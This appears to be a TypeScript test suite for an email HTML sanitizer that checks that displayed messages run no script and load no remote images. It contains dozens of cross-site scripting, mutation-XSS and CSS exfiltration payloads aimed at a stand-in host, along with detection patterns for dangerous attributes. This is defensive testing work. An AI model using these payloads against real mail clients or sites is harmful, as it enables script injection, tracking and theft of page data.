import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { shownBody, showSource } from '#display/shown-html.ts'

const ADDRESS = '/v1/messages/msg_1/image?x=1'
const REMOTE = 'https://evil.example/track.png'

/** The page, with all images of other hosts left out unless `showsRemote`. */
function show(html: string, showsRemote = false): { page: string; blocked: number } {
  const shown = showSource({ html, showsRemote })
  assert.ok(shown !== null)
  const page = shownBody(shown, { html, text: 'its text' }, (image) =>
    image.kind === 'part' ? '/part' : ADDRESS,
  )
  return { page, blocked: shown.blockedCount }
}

function elementsOf(page: string): Tree.Element[] {
  const found: Tree.Element[] = []
  const visit = (node: Tree.ParentNode) => {
    for (const child of node.childNodes) {
      if (!('tagName' in child)) continue
      found.push(child)
      visit(child)
    }
  }
  visit(parse(page, { scriptingEnabled: false }))
  return found
}

const textOf = ({ childNodes }: Tree.Element): string =>
  childNodes.map((child) => ('value' in child ? child.value : '')).join('')

const ELEMENTS = new Set(
  `html head meta title style body a abbr area article b blockquote br center code col div em font h1 h2
  hr i img li map ol p picture pre small span strong sub sup table tbody td tfoot th thead tr u ul`.split(
    /\s+/,
  ),
)
const FETCHING =
  /^(?:src|srcset|background|poster|data|action|formaction|ping|longdesc|profile|code|codebase|classid|manifest|lowsrc|dynsrc|archive|icon|cite|srcdoc|content)$/i

/** Everything in the page that makes a browser run, request or fetch something. */
function dangersOf(page: string): string[] {
  return elementsOf(page).flatMap((element) => {
    const { tagName, attrs } = element
    const dangers: string[] = []
    if (!ELEMENTS.has(tagName)) dangers.push(`<${tagName}>`)
    for (const { name, value: text } of attrs) {
      if (/^on/i.test(name)) dangers.push(name)
      const isOurs = /^\/(?:part|v1\/)|^data:image\/(?:gif|png)/.test(text)
      if (tagName !== 'meta' && FETCHING.test(name) && !isOurs) dangers.push(`${name}=${text}`)
      if (name === 'href' && !/^(?:https?:|mailto:|tel:|#)/.test(text)) dangers.push(`href=${text}`)
      if (name === 'style') dangers.push(...cssDangers(text))
    }
    if (tagName === 'style') dangers.push(...cssDangers(textOf(element)))
    return dangers
  })
}

/** CSS as browsers read it: without comments, escapes resolved. */
function cssDangers(css: string): string[] {
  const plain = css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) =>
      String.fromCodePoint(Math.min(0x10ffff, Number.parseInt(hex, 16))),
    )
    .replace(/\\(.)/g, '$1')
  const dangers = plain.match(
    /@import|@font-face|expression\s*\(|-moz-binding|behavior\s*:|image-set|src\s*\(/gi,
  )
  const urls = [...plain.matchAll(/url\(\s*['"]?(.{0,30})/gi)]
    .map(([, target = '']) => target)
    .filter((target) => !/^(?:\/part|\/v1\/|data:image\/)/.test(target))
  return [...(dangers ?? []), ...urls.map((target) => `url(${target}`)]
}

const HOSTILE: Record<string, string> = {
  script: `<script src="${REMOTE}"></script><script>alert(1)</script>`,
  'script in svg': `<svg><script href="${REMOTE}"/><image href="${REMOTE}"/></svg>`,
  'script broken up': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  onerror: '<img src="x" onerror="alert(1)"><body onload=alert(1)><div ONCLICK=a>',
  form: `<form action="${REMOTE}"><input type=image src="${REMOTE}"><button formaction="${REMOTE}">x</button></form>`,
  'form by an attribute': `<input form=f formaction="${REMOTE}"><isindex action="${REMOTE}">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${REMOTE}">`,
  base: '<base href="https://evil.example/"><a href="x">x</a><img src="x.png">',
  links: `<link rel=stylesheet href="${REMOTE}"><link rel="preload" as=image href="${REMOTE}"><link rel=dns-prefetch href="//evil.example">`,
  iframe: `<iframe src="${REMOTE}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="${REMOTE}"></frameset>`,
  object: `<object data="${REMOTE}"><embed src="${REMOTE}"></object><applet code="${REMOTE}">`,
  'svg use': `<svg><use href="${REMOTE}#x"/><feImage href="${REMOTE}"/></svg><math><mtext><img src="${REMOTE}"></mtext></math>`,
  srcset: `<img srcset="${REMOTE} 1x, ${REMOTE} 2x" alt="x"><img src="" srcset="${REMOTE}">`,
  picture: `<picture><source srcset="${REMOTE}" media="(min-width:1px)"><img src="${REMOTE}"></picture>`,
  video: `<video poster="${REMOTE}" src="${REMOTE}"><source src="${REMOTE}"><track src="${REMOTE}"></video><audio src="${REMOTE}" autoplay></audio>`,
  background: `<body background="${REMOTE}"><table background="${REMOTE}"><td background="//evil.example/x">x</td></table>`,
  'old image attributes': `<img lowsrc="${REMOTE}" dynsrc="${REMOTE}" longdesc="${REMOTE}"><blockquote cite="${REMOTE}">x</blockquote>`,
  ping: `<a href="https://a.example/" ping="${REMOTE}">x</a>`,
  'javascript link':
    '<a href="javascript:alert(1)">x</a><a href=" java\nscript:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a><a href="data:text/html,<script>">d</a><a href="vbscript:x">v</a>',
  'javascript image':
    '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
  'css url': `<div style="background:url(${REMOTE})">x</div><style>p{background:url('${REMOTE}')} q{list-style:url(${REMOTE})}</style>`,
  'css import': `<style>@import "${REMOTE}";@import url(${REMOTE});@IMPORT '${REMOTE}';@\\69mport "${REMOTE}";a{}</style>`,
  'css font': `<style>@font-face{font-family:x;src:url(${REMOTE})}</style>`,
  'css image-set': `<p style="background-image:image-set('${REMOTE}' 1x);background:-webkit-image-set(url(${REMOTE}) 1x)">x`,
  'css src': `<p style="background:src('${REMOTE}')">x</p>`,
  'css escapes': `<style>a{background:u\\72l(${REMOTE})} b{background:\\75\\72\\6c(${REMOTE})}</style>`,
  'css comments': `<style>a{background:url/**/(${REMOTE})} b{background:ur/**/l(${REMOTE})} c{background:url<!--(${REMOTE})}</style>`,
  'css variable': `<style>:root{--x:url(${REMOTE})} a{background:var(--x)}</style>`,
  'css in parentheses': `<style>a{b:foo(;background:url(${REMOTE})} @media x({a{b:url(${REMOTE})}}</style>`,
  'css expression':
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  'css broken string': `<style>a{content:"x\n;background:url(${REMOTE});b:"}</style>`,
  'css end of element': '<style>a{content:"</style><script>alert(1)</script>"}</style>',
  'css exfiltration': `<style>input[value^="a"]{background:url(${REMOTE}?a)} a[href*=token]{background-image:url(${REMOTE}?b)}</style>`,
  'css charset and namespace': `<style>@charset "utf-7";@namespace url(${REMOTE});@document url(${REMOTE}){a{b:c}}</style>`,
  'markup in a template': `<template><img src="${REMOTE}"></template><noscript><img src="${REMOTE}"></noscript>`,
  'markup in raw text': `<xmp><img src="${REMOTE}"></xmp><noembed><img src="${REMOTE}"></noembed><plaintext><img src="${REMOTE}">`,
  'markup in a title':
    '<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>',
  mutation:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation by select':
    '<select><template><style></select><img src=x onerror=alert(1)></style></template></select>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'attribute breaking out':
    '<a title="x&quot; onclick=&quot;alert(1)" href="https://a.example/&quot;onclick=alert(1)//">x</a><img alt="`><script>alert(1)</script>">',
  'style breaking out': '<p style="x:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  comments: '<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->',
  'processing instruction': `<?xml-stylesheet href="${REMOTE}"?><!DOCTYPE html SYSTEM "${REMOTE}"><![CDATA[<script>x</script>]]>`,
  'second document': `</body></html><script>alert(1)</script><html manifest="${REMOTE}"><body background="${REMOTE}">`,
  'image map': `<img usemap="#m" src="${REMOTE}"><map name="m"><area href="javascript:alert(1)" ping="${REMOTE}"></map>`,
  'custom element':
    '<x-y is="z" onfoo="a">x</x-y><dialog open>x</dialog><portal src="https://evil.example/">',
}

for (const [name, html] of Object.entries(HOSTILE)) {
  test(`no script runs and nothing is fetched: ${name}`, () => {
    for (const showsRemote of [false, true]) {
      const { page } = show(`before ${html} after`, showsRemote)
      assert.deepEqual(dangersOf(page), [])
      assert.ok(!page.includes('alert(1)</script>'))
      const withoutLinks = page.replace(/<a href="[^"]*"/g, '')
      assert.doesNotMatch(withoutLinks.replace(/&[a-z]+;/g, ' '), /="\s*(?:https?:)?\/\/evil/i)
    }
  })
}

test('images of other hosts are left out and counted, and shown on request', () => {
  const html = `<style>p{background:url(//evil.example/c)}</style><body background="${REMOTE}">
    <img src="${REMOTE}" alt="words" width="5"><div style="background:url('${REMOTE}')">x</div>`
  const left = show(html)
  assert.equal(left.blocked, 4)
  assert.ok(left.page.includes('<img alt="words" width="5">'))
  const shown = show(html, true)
  assert.equal(shown.blocked, 0)
  assert.equal(shown.page.split(ADDRESS).length, 5)
})

test('embedded images and data URLs are shown', () => {
  const data = 'data:image/png;base64,iVBORw0KGgo='
  const { page, blocked } = show(`<img src="cid:logo%40a"><img src="CID:x"><img src="${data}">`)
  assert.equal(blocked, 0)
  assert.equal(page.split('src="/part"').length, 3)
  assert.ok(page.includes(data))
})

const CONDITIONAL: Record<string, string> = {
  'a media query': `@media (max-width:600px){.a{background:url(${REMOTE})}}`,
  'a media query in a layer': `@layer x{@media print{.a{background:url(${REMOTE})}}}`,
  'a rule within a rule': `.a{@media (min-width:1px){background:url(${REMOTE})}}`,
  'a media query behind a block in brackets': `@media (x{}), (min-width:1px){.a{background:url(${REMOTE})}}`,
  'a media query with escapes': `@m\\65 dia (min-width:1px){.a{background:url(${REMOTE})}}`,
  '@supports': `@supports (display:grid){.a{background:url(${REMOTE})}}`,
  '@container': `@container (min-width:1px){.a{background:url(${REMOTE})}}`,
  '@keyframes': `@keyframes x{to{background:url(${REMOTE})}}`,
  '@page': `@page{background:url(${REMOTE})}`,
  'a pointer': `.a:hover{background:url(${REMOTE})}`,
  'a pointer within :has': `.a:has(b:hover){background:url(${REMOTE})}`,
  'a pointer within a rule': `.a{&:hover{background:url(${REMOTE})}}`,
  'a pointer with escapes': `.a:h\\6fver{background:url(${REMOTE})}`,
  'a variable': `.a{--x:url(${REMOTE})}@media (width<9px){.a{background:var(--x)}}`,
  'image-set': `.a{background:image-set(url(${REMOTE}) 1x, url(${REMOTE}) 2x)}`,
}
for (const [name, css] of Object.entries(CONDITIONAL)) {
  test(`an image that depends on ${name} is not requested, and other images are`, () => {
    const other = 'https://other.example/b.png'
    const html = `<style>${css}.b{background:url(${other})}.c:first-child::before{content:url(${other})}</style><img src="${other}">`
    const shown = showSource({ html, showsRemote: true })
    const remote = (shown?.pieces ?? []).filter((piece) => typeof piece !== 'string')
    const wanted = { kind: 'remote', url: other }
    assert.deepEqual(remote, css.includes('(x{})') ? [wanted] : [wanted, wanted, wanted])
  })
}

test('an image for another screen size is not requested', () => {
  const html = `<picture><source media="(min-width:1px)" srcset="${REMOTE}"><img src="https://other.example/b.png" srcset="${REMOTE} 2x" sizes="1px"></picture><p style="--x:url(${REMOTE});background:var(--x)">`
  const shown = showSource({ html, showsRemote: true })
  const remote = (shown?.pieces ?? []).filter((piece) => typeof piece !== 'string')
  assert.deepEqual(remote, [{ kind: 'remote', url: 'https://other.example/b.png' }])
})

test('an embedded image is shown under any condition', () => {
  const html = '<style>@media (min-width:1px){.a{background:url(cid:a@b)}}</style>'
  const shown = showSource({ html, showsRemote: true })
  assert.ok(shown?.pieces.some((piece) => typeof piece !== 'string' && piece.kind === 'part'))
})

test('styles and layout are unchanged', () => {
  const sheet = '@media (max-width: 600px){.a>b:not(.c){color:rgb(1,2,3)!important;margin:-1px}}'
  const style = 'position:absolute;width:calc(100% - 10px);font-family:"A B",serif'
  const html = `<style>${sheet}</style><table bgcolor="#fff" class="a b"><tr><td style='${style}'>x</td></tr></table>`
  const { page } = show(html)
  assert.ok(page.includes(sheet))
  assert.ok(page.includes(`style="${style.replaceAll('"', '&quot;')}"`))
  assert.ok(page.includes('<table bgcolor="#fff" class="a b">'))
})

test('content beside a removed element stays', () => {
  const { page } = show(
    `<style>@import url(${REMOTE});p{color:red;background:url(${REMOTE});margin:0}@font-face{src:url(x)}b{top:1px}</style>`,
  )
  assert.ok(page.includes('<style>p{color:red;margin:0}@none{}b{top:1px}</style>'), page)
})

test('links open a new window without a referrer; links within the page stay in it', () => {
  const { page } = show(
    '<a href="https://a.example/?a=1&amp;b=2" target="_top">x</a><a href="#top">y</a>',
  )
  assert.ok(
    page.includes(
      '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">',
    ),
  )
  assert.ok(page.includes('<a href="#top">'))
})

test('mail without HTML is shown as text, with markup as text and addresses as links', () => {
  const text = '<b>a & b</b>\r\n see https://a.example/x?y=1&z=2).'
  const page = shownBody(null, { html: '', text }, () => null)
  assert.ok(page.includes('&lt;b&gt;a &amp; b&lt;/b&gt;'))
  assert.ok(page.includes('<a href="https://a.example/x?y=1&amp;z=2" target="_blank"'))
  assert.deepEqual(dangersOf(page), [])
})

test('HTML that cannot be shown is replaced by the text, which says so outside of its own words', () => {
  const html = '<div>'.repeat(25_000)
  const shown = showSource({ html, showsRemote: false })
  const page = shownBody(shown, { html, text: 'its text' }, () => null)
  assert.match(page, /<strong>The HTML of this message cannot be shown.*<pre>its text<\/pre>/s)
  const withoutHtml = shownBody(null, { html: '', text: 'its text' }, () => null)
  assert.doesNotMatch(withoutHtml, /cannot be shown/)
})

test('HTML that is shown tells whether its end is missing, and what a reader does not see if asked', () => {
  const html = '<p>Pay 10</p><p style="display:none">Pay 1000</p><font color="#fff">and more</font>'
  const shown = showSource({ html, showsRemote: false, isStill: true, findsMissed: true })
  assert.deepEqual(shown?.missed?.hidden, [
    { kind: 'display-none', characters: 8 },
    { kind: 'same-colour', characters: 8 },
  ])
  assert.equal(shown.isWhole, true)
  assert.equal(showSource({ html, showsRemote: false })?.missed, null)
  const long = `<p>${'x'.repeat(1_100_000)}</p>`
  assert.equal(showSource({ html: long, showsRemote: false })?.isWhole, false)
})

test('HTML with parts that some mail programs show, and a page leaves out, is not shown whole', () => {
  const isWhole = (html: string) => showSource({ html, showsRemote: false })?.isWhole
  const leftOut = [
    '<svg><text>Pay 9999</text></svg>',
    '<textarea>Pay 9999</textarea>',
    '<form><input value="Pay 9999"></form>',
    '<select><option>Pay 9999</select>',
    '<object data="https://evil.example/x">Pay 9999</object>',
    '<math><mtext>Pay 9999</mtext></math>',
    '<xmp>Pay 9999</xmp>',
  ]
  for (const html of leftOut) assert.equal(isWhole(`<p>Pay 10</p>${html}`), false, html)
  const unseen = [
    '<title>x</title><meta charset="utf-8"><link rel="stylesheet" href="x">',
    '<script>alert(1)</script><template>x</template><iframe src="x">x</iframe>',
    '<form><input type="hidden" value="x"><button>Go</button></form>',
  ]
  for (const html of unseen) assert.equal(isWhole(`<p>Pay 10</p>${html}`), true, html)
})

test('a style sheet never holds a tag, and its strings keep their meaning in CSS', () => {
  const css = 'a{content:"<img src=x>"}@media (width <= 9px){b{c:d}}e<f{}</b>g{h:i}'
  const { page } = show(`<style>${css}</style>`)
  const [, sheet = ''] = /<body><style>(.*?)<\/style>/s.exec(page) ?? []
  assert.ok(sheet.includes('content:"\\3c img src=x>"'))
  assert.ok(sheet.includes('(width <= 9px)'))
  assert.doesNotMatch(sheet, /<[^ =]/)
})
